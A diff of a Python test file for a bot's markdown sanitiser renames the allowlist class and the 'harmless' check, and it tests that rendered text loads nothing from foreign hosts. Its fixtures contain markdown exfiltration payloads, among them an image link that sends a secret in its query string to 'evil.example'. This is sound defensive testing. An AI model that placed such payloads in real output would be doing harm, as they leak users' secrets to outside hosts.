@@ -4,12 +4,12 @@ from __future__ import annotations
 
 import pytest
 
-from bot.publishing.markdown import Allowed, escape_markdown, harmless
+from bot.publishing.markdown import Allowlist, escape_markdown, is_harmless
 from bot.publishing.plan import pull_body
 from tests.builders import a_job
 from tests.github_page import live_in
 
-ALLOWED = Allowed(login="mona", number=7, server="https://github.example", repo="octo/calc")
+ALLOWED = Allowlist(login="mona", number=7, server="https://github.example", repo="octo/calc")
 SECRET = "s3cret-in-a-query"
 LEAKS = [
     f"![done](https://evil.example/p.png?d={SECRET})",
@@ -48,7 +48,7 @@ def test_the_page_loads_nothing_and_links_to_no_foreign_host(text: str) -> None:
     "text", ["![a](https://evil.example/x)", "<img src=x>", "[a](https://evil.example)", "https://evil.example"]
 )
 def test_what_the_rewriting_might_miss_githubs_own_parser_finds(text: str) -> None:
-    assert not harmless(text, ALLOWED)
+    assert not is_harmless(text, ALLOWED)
 
 
 def test_links_to_the_server_itself_stay() -> None:
